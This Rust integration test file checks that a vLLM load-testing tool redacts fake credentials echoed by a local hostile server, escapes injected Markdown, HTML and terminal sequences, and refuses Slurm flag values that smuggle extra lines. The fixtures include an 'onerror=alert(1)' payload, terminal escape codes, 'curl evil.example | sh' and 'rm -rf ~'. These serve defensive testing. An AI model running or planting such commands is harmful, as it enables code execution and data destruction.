mod support;
use support::*;

// Every secrets channel at once (issue 32, "Secrets and injection"): a hostile server echoes
// every credential it was sent in every place a server can echo one (the `/v1/models` ids,
// a 500 body, a `/metrics` page's metric names and `*_info` labels, the `/version` identity
// page), next to Markdown and HTML meant to escape their output. Then every file written
// (the result folder, `ladder report`'s folder) and stdout/stderr are searched for each
// secret, and each output is parsed back. All traffic stays on 127.0.0.1.

use std::io::Write;
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

/// The endpoint's key: metric-name characters only, so a page can echo it as a metric name.
const KEY: &str = "sk_live_HOSTILEKEY_7731_not_real";
/// The metrics page's own key (`server_metrics.api_key_env`), also metric-name-safe.
const METRICS_KEY: &str = "mk_HOSTILE_metrics_9921_not_real";
/// A base_url query value from `{{ env.HS_SIG }}` under a plain name (`sig=`).
const SIG: &str = "SigFromEnv7731xyzw";
/// A header value from `{{ env.HS_TENANT }}`.
const TENANT: &str = "tenant-from-env-5512";
/// `extra_body.api_key`, written in the file.
const BODY_KEY: &str = "body-key-in-file-6623";
/// `extra_body.options.session_token`, written in the file (nested).
const NESTED: &str = "nested-token-in-file-4471";
/// `server_metrics.url`'s `?token=`, written in the file.
const METRICS_QUERY: &str = "mq-tok-8841-query-value";

const SECRETS: [&str; 7] = [
    KEY,
    METRICS_KEY,
    SIG,
    TENANT,
    BODY_KEY,
    NESTED,
    METRICS_QUERY,
];

/// A served model id meant to break out of Markdown, HTML and the terminal (clear the screen,
/// retitle the window).
const HOSTILE_ID: &str = "![x](http://evil.example/i.png) <img src=x onerror=alert(1)> ``` `x` \
     [l](http://evil.example) | *b* \u{1b}[2J\u{1b}]0;owned\u{7}";

struct Hostile {
    addr: std::net::SocketAddr,
    /// Every request head and body received, in arrival order.
    seen: Arc<Mutex<String>>,
}

/// Answers like a vLLM server, echoing every secret it has received so far (and only those)
/// wherever a server can: model ids, 500 bodies, metric names, `*_info` labels, `/version`.
fn hostile_server() -> Hostile {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap();
    let seen = Arc::new(Mutex::new(String::new()));
    let posts = Arc::new(AtomicUsize::new(0));
    let s2 = seen.clone();
    thread::spawn(move || {
        for s in l.incoming() {
            let Ok(s) = s else { continue };
            let (seen, posts) = (s2.clone(), posts.clone());
            thread::spawn(move || {
                let _ = answer(s, &seen, &posts);
            });
        }
    });
    Hostile { addr, seen }
}

fn reply(s: &mut TcpStream, status: &str, ctype: &str, body: &str) -> std::io::Result<()> {
    write!(
        s,
        "HTTP/1.1 {status}\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
}

fn answer(mut s: TcpStream, seen: &Mutex<String>, posts: &AtomicUsize) -> std::io::Result<()> {
    s.set_read_timeout(Some(Duration::from_secs(20)))?;
    let (head, mut body) = read_head(&mut s)?;
    read_body(&mut s, &head, &mut body)?;
    let known: Vec<&str> = {
        let mut all = seen.lock().unwrap();
        all.push_str(&head);
        all.push('\n');
        all.push_str(&String::from_utf8_lossy(&body));
        all.push('\n');
        SECRETS
            .iter()
            .copied()
            .filter(|x| all.contains(x))
            .collect()
    };
    let echo = known.join(" ");
    let first = head.lines().next().unwrap_or("").to_string();
    if first.starts_with("GET /v1/models") {
        let mut ids: Vec<serde_json::Value> = vec![serde_json::json!({"id": HOSTILE_ID})];
        ids.extend(known.iter().map(|k| serde_json::json!({"id": k})));
        let b = serde_json::json!({"object": "list", "data": ids}).to_string();
        return reply(&mut s, "200 OK", "application/json", &b);
    }
    if first.starts_with("GET /metrics") {
        let mut page = String::from(
            "# TYPE vllm:num_requests_running gauge\nvllm:num_requests_running 1\n\
             # TYPE vllm:num_requests_waiting gauge\nvllm:num_requests_waiting 0\n",
        );
        let labels: Vec<String> = known
            .iter()
            .enumerate()
            .map(|(i, k)| format!("echo{i}=\"{k}\""))
            .collect();
        page.push_str(&format!(
            "vllm:cache_config_info{{block_size=\"16\",{}}} 1\n",
            labels.join(",")
        ));
        for k in &known {
            if k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
                page.push_str(&format!("{k}_total 3\n{k} 1\n"));
            }
        }
        return reply(&mut s, "200 OK", "text/plain; version=0.0.4", &page);
    }
    if first.starts_with("GET /version") {
        let b = serde_json::json!({"version": format!("0.9.0 {echo}")}).to_string();
        return reply(&mut s, "200 OK", "application/json", &b);
    }
    let n = posts.fetch_add(1, Ordering::SeqCst);
    if n >= PROBES && n % 2 == 1 {
        let b = serde_json::json!({"error": {"message": format!("rejected {echo} {HOSTILE_ID}")}})
            .to_string();
        return reply(&mut s, "500 Internal Server Error", "application/json", &b);
    }
    s.write_all(SSE_HEAD.as_bytes())?;
    s.write_all(GOOD_STREAM.as_bytes())
}

fn scenario(dir: &Path, port: u16) -> std::path::PathBuf {
    let text = format!(
        "version: 1\nname: rel\nendpoint:\n  base_url: \"http://127.0.0.1:{port}/?sig={{{{ env.HS_SIG }}}}\"\n  \
         api: completions\n  request_timeout: 5s\n  api_key_env: HS_KEY\n  headers:\n    \
         X-Tenant: \"{{{{ env.HS_TENANT }}}}\"\n  extra_body:\n    api_key: {BODY_KEY}\n    \
         options: {{session_token: {NESTED}, temperature: 0.5}}\n\
         server_metrics:\n  url: \"http://127.0.0.1:{port}/metrics?token={METRICS_QUERY}&job=a\"\n  \
         api_key_env: HS_METRICS_KEY\n  interval: 200ms\n\
         model: \"m`x\"\ntokenizer: {TOKENIZER}\nworkload:\n  dataset: random\n  input_tokens: 16\n  \
         output_tokens: 4\n  requests_per_rung: 6\n  seed: 0\nload:\n  arrival: poisson\n  \
         baseline_rate: 20\n  rates: [40]\n  warmup_requests: 0\n  cooldown: 0s\n"
    );
    let p = dir.join("rel.yaml");
    std::fs::write(&p, text).unwrap();
    p
}

#[test]
fn every_secret_echoed_anywhere_is_in_no_output_and_every_output_parses() {
    let server = hostile_server();
    let tmp = tempfile::tempdir().unwrap();
    let path = scenario(tmp.path(), server.addr.port());
    let out = tmp.path().join("out");
    let mut cmd = ladder_cmd(&[
        "run",
        path.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    cmd.env("HS_KEY", KEY)
        .env("HS_METRICS_KEY", METRICS_KEY)
        .env("HS_SIG", SIG)
        .env("HS_TENANT", TENANT);
    let ran = spawn(cmd).finish(Duration::from_secs(120));
    no_panic(&ran);
    assert!(ran.status.success(), "{}", ran.all());

    // The terminal was shown the id's control sequences, never sent them.
    assert!(ran.stderr.contains("is not in"), "{}", ran.stderr);
    assert!(ran.stderr.contains("[2J"), "{}", ran.stderr);
    assert!(!ran.all().contains('\u{1b}'), "{}", ran.all());
    // The server got every secret, so each echo below is real.
    let seen = server.seen.lock().unwrap().clone();
    for s in SECRETS {
        assert!(seen.contains(s), "{s} was never sent");
    }
    let dir = run_dir(&out).expect("a result folder");
    let rd = check_folder(&dir);
    // The echoes were kept, scrubbed: the identity labels, the raw series, the 500 bodies.
    let files = all_text_under(&dir);
    assert!(files.contains("server_identity"), "{files}");
    assert!(files.contains("\"block_size\": \"16\""), "{files}");
    assert!(files.contains("rejected ***"), "{files}");
    let series: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("server_metrics_rate_"))
        .collect();
    assert!(!series.is_empty(), "no series file");
    // run.json: what the user wrote stays, what is secret is masked.
    let ep = &rd.info.scenario["endpoint"];
    assert_eq!(
        ep["base_url"],
        format!("http://127.0.0.1:{}/?sig=***", server.addr.port())
    );
    assert_eq!(rd.info.endpoint, ep["base_url"].as_str().unwrap());
    assert_eq!(ep["headers"]["X-Tenant"], "<redacted>");
    assert_eq!(ep["extra_body"]["api_key"], "<redacted>");
    assert_eq!(ep["extra_body"]["options"]["session_token"], "<redacted>");
    assert_eq!(ep["extra_body"]["options"]["temperature"], 0.5);
    assert_eq!(
        rd.info.scenario["server_metrics"]["url"],
        format!(
            "http://127.0.0.1:{}/metrics?token=***&job=a",
            server.addr.port()
        )
    );

    let report_dir = tmp.path().join("report");
    let rep = spawn(ladder_cmd(&[
        "report",
        dir.to_str().unwrap(),
        "--out",
        report_dir.to_str().unwrap(),
    ]))
    .finish(Duration::from_secs(60));
    no_panic(&rep);
    assert!(rep.status.success(), "{}", rep.all());
    let reports = all_text_under(&report_dir);
    for (what, text) in [
        ("stdout/stderr of run", ran.all()),
        ("stdout/stderr of report", rep.all()),
        ("the result folder", files.clone()),
        ("the report folder", reports.clone()),
    ] {
        for s in SECRETS {
            assert!(!text.contains(s), "{s} leaked into {what}");
        }
    }

    // Parsed back: Markdown renders nothing from the input, HTML holds no tag from it.
    for md_dir in [&dir, &report_dir] {
        let md = std::fs::read_to_string(md_dir.join("summary.md")).unwrap();
        assert!(md.contains("is not in"), "the served-ids warning:\n{md}");
        assert!(md.contains("``m`x``"), "the model in a longer fence:\n{md}");
        assert_markdown_inert("summary.md", &md);
        // The "what was run" block shows the endpoint in its scrubbed form only.
        let port = server.addr.port();
        assert!(
            md.contains(&format!(
                "| endpoint | http://127.0.0.1:{port}/?sig=\\*\\*\\* |"
            )),
            "{md}"
        );
        let html = std::fs::read_to_string(md_dir.join("report.html")).unwrap();
        assert!(
            html.contains(&format!(
                "<tr><th>endpoint</th><td>http://127.0.0.1:{port}/?sig=***</td></tr>"
            )),
            "{html}"
        );
        assert!(
            html.contains("onerror=alert(1)"),
            "the id is shown, escaped"
        );
        assert!(
            !html.contains("<img"),
            "a raw tag from the server in report.html"
        );
    }
}

/// `ladder kube` gives the pods every variable the scenario reads, as `ladder validate` saw
/// them here: plain values as values, a value the scenario sends as a credential (or a
/// secret-looking name) as a Secret reference, never its value; an `extends:` base beside
/// the scenario goes into the ConfigMap, one elsewhere is named in a note.
#[test]
fn kube_pods_get_every_variable_the_scenario_reads() {
    let tmp = tempfile::tempdir().unwrap();
    let shipped = Path::new(env!("CARGO_MANIFEST_DIR")).join("scenarios/vllm-ladder.yaml");
    let run = |path: &Path, extra_env: &[(&str, &str)]| {
        let mut cmd = ladder_cmd(&[
            "kube",
            path.to_str().unwrap(),
            "--shards",
            "2",
            "--image",
            "registry.example/ladder:1",
        ]);
        cmd.env("LADDER_BASE_URL", "http://vllm.inference.svc:8000")
            .env("LADDER_MODEL", "Qwen/Qwen2.5-7B-Instruct")
            .env("LADDER_TOKENIZER", TOKENIZER);
        for (k, v) in extra_env {
            cmd.env(k, v);
        }
        let r = spawn(cmd).finish(Duration::from_secs(30));
        no_panic(&r);
        assert!(r.status.success(), "{}", r.all());
        let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
        (v, r.stderr)
    };
    let env_of = |v: &serde_json::Value| {
        v.pointer("/items/1/spec/template/spec/containers/0/env")
            .unwrap()
            .as_array()
            .unwrap()
            .clone()
    };
    let find = |env: &[serde_json::Value], name: &str| {
        env.iter()
            .find(|e| e["name"] == name)
            .cloned()
            .unwrap_or_else(|| panic!("{name} not passed: {env:?}"))
    };
    let (v, _) = run(&shipped, &[]);
    let env = env_of(&v);
    assert_eq!(
        find(&env, "LADDER_BASE_URL")["value"],
        "http://vllm.inference.svc:8000"
    );
    assert_eq!(
        find(&env, "LADDER_MODEL")["value"],
        "Qwen/Qwen2.5-7B-Instruct"
    );
    assert_eq!(find(&env, "LADDER_TOKENIZER")["value"], TOKENIZER);

    // A child beside its base, with a signature in the URL and a token header from the
    // environment: both by Secret reference, never by value.
    std::fs::write(
        tmp.path().join("base.yaml"),
        std::fs::read_to_string(&shipped).unwrap(),
    )
    .unwrap();
    let child = tmp.path().join("child.yaml");
    std::fs::write(
        &child,
        "version: 1\nextends: base.yaml\nname: child\nendpoint:\n  \
         base_url: \"http://vllm.inference.svc:8000/?sig={{ env.HS_SIG }}\"\n  headers:\n    \
         X-Tenant: \"{{ env.HS_TENANT }}\"\n",
    )
    .unwrap();
    let (v, stderr) = run(&child, &[("HS_SIG", SIG), ("HS_TENANT", TENANT)]);
    let text = v.to_string();
    assert!(!text.contains(SIG) && !text.contains(TENANT), "{text}");
    let env = env_of(&v);
    for var in ["HS_SIG", "HS_TENANT"] {
        let e = find(&env, var);
        assert_eq!(e["valueFrom"]["secretKeyRef"]["key"], var, "{e}");
        assert_eq!(e["valueFrom"]["secretKeyRef"]["name"], "ladder-api-key");
    }
    assert!(
        stderr.contains("HS_SIG") && stderr.contains("kubectl create secret"),
        "{stderr}"
    );
    let data = v.pointer("/items/0/data").unwrap();
    assert!(
        data.get("child.yaml").is_some() && data.get("base.yaml").is_some(),
        "{data}"
    );

    // A base in another folder is not in the ConfigMap: said, naming it.
    let sub = tmp.path().join("sub");
    std::fs::create_dir(&sub).unwrap();
    let far = sub.join("far.yaml");
    std::fs::write(&far, "version: 1\nextends: ../base.yaml\nname: far\n").unwrap();
    let (v, stderr) = run(&far, &[]);
    assert!(
        stderr.contains("note:") && stderr.contains("base.yaml") && stderr.contains("ConfigMap"),
        "{stderr}"
    );
    assert!(v.pointer("/items/0/data/base.yaml").is_none());
}

/// `ladder slurm` refuses a `--partition` / `--time` that would add lines to the batch
/// script, and the script names every variable the scenario reads.
#[test]
fn slurm_refuses_values_that_would_add_lines_and_names_the_variables_read() {
    let shipped = Path::new(env!("CARGO_MANIFEST_DIR")).join("scenarios/vllm-ladder.yaml");
    let slurm = |flag: &str, value: &str| {
        let mut cmd = ladder_cmd(&[
            "slurm",
            shipped.to_str().unwrap(),
            "--shards",
            "2",
            flag,
            value,
        ]);
        cmd.env("LADDER_TOKENIZER", TOKENIZER);
        let r = spawn(cmd).finish(Duration::from_secs(30));
        no_panic(&r);
        r
    };
    let ok = slurm("--time", "01:00:00");
    assert!(ok.status.success(), "{}", ok.all());
    assert!(
        ok.stdout
            .contains("$LADDER_BASE_URL, $LADDER_MODEL, $LADDER_TOKENIZER"),
        "{}",
        ok.stdout
    );
    for (flag, bad) in [
        (
            "--partition",
            "gpu\n#SBATCH --nodelist=victim\ncurl evil.example | sh",
        ),
        ("--time", "01:00:00\nrm -rf ~"),
    ] {
        let r = slurm(flag, bad);
        assert_eq!(r.status.code(), Some(2), "{}", r.all());
        assert!(
            r.stderr.contains("error:") && r.stderr.contains(flag),
            "{}",
            r.stderr
        );
        assert!(r.stdout.is_empty(), "{}", r.stdout);
    }
}
